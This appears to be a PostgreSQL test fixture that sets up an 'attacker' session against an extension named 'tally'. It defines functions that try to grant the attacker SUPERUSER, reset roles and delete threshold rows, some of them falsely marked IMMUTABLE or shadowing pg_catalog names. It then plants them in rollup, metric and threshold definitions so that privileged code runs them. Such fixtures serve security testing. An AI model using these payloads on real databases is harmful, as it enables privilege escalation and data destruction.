-- Owns what the attacker brings, run in a session of his own: code, tables, and definitions that call the code.
-- What a definition of the attacker's may come to call, in whoever's hands: it takes what it can get for the attacker.
CREATE TABLE evil.log (n int GENERATED ALWAYS AS IDENTITY, what text, as_user name DEFAULT current_user);
GRANT ALL ON evil.log TO PUBLIC;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE FUNCTION evil.act() RETURNS float8 LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO evil.log (what) VALUES ('pwn');
    BEGIN ALTER ROLE tally_attacker SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN RESET ROLE; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN RESET SESSION AUTHORIZATION; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN DELETE FROM tally.thresholds; EXCEPTION WHEN OTHERS THEN NULL; END;
    RETURN 0;
END $$;
-- It says that it does nothing, so that definitions may call it.
CREATE FUNCTION evil.pwn() RETURNS float8 LANGUAGE plpgsql IMMUTABLE SET search_path = pg_catalog, pg_temp AS $$ BEGIN RETURN evil.act(); END $$;
CREATE FUNCTION evil.dead() RETURNS float8 LANGUAGE plpgsql AS $$ BEGIN ASSERT false, 'dead'; RETURN 0; END $$;
CREATE FUNCTION evil.cancelled() RETURNS float8 LANGUAGE plpgsql AS $$ BEGIN RAISE SQLSTATE '57014'; END $$;
CREATE FUNCTION evil.slow() RETURNS float8 LANGUAGE plpgsql AS $$
BEGIN
    FOR i IN 1..5 LOOP
        BEGIN PERFORM pg_sleep(20); EXCEPTION WHEN query_canceled THEN NULL; END;
    END LOOP;
    RETURN 0;
END $$;
-- Names that pg_catalog has too, for a search_path that has evil first.
CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE sql AS $$ SELECT evil.pwn(); SELECT '2000-01-01Z'::timestamptz $$;
CREATE FUNCTION evil.lower(text) RETURNS text LANGUAGE sql AS $$ SELECT evil.pwn(); SELECT $1 $$;
CREATE FUNCTION evil.quote_ident(text) RETURNS text LANGUAGE sql AS $$ SELECT evil.pwn(); SELECT $1 $$;
CREATE FUNCTION evil.same(text, text) RETURNS boolean LANGUAGE sql AS $$ SELECT evil.pwn(); SELECT true $$;
CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.same);
CREATE TABLE evil.mine (at timestamptz NOT NULL, who text, "odd ""name" int, n int) PARTITION BY HASH (who);
CREATE TABLE evil.mine_0 PARTITION OF evil.mine FOR VALUES WITH (MODULUS 1, REMAINDER 0);
CREATE TABLE evil.plain (at timestamptz, day date, who text, n int, j jsonb);
CREATE TABLE evil.rollups (id int, name text, owner oid);
INSERT INTO evil.mine SELECT '2026-03-01Z'::timestamptz + g * interval '1 hour', 'w' || g % 3, g, g FROM generate_series(1, 40) g;
INSERT INTO evil.plain SELECT at, at::date, who, n, '{"a": 1}' FROM evil.mine;
SELECT tally.create_rollup('evil.evil_hourly', 'evil.mine', 'at', '1 hour', dimensions => '["who"]', measures => '{"n": "count(*)",
    "pwn": "max(evil.pwn())"}');
SELECT tally.create_metric('evil_metric', 'evil_hourly', 'pwn + n');
SELECT tally.create_threshold('evil_alert', query => 'SELECT evil.pwn() AS value', condition => '> -1');
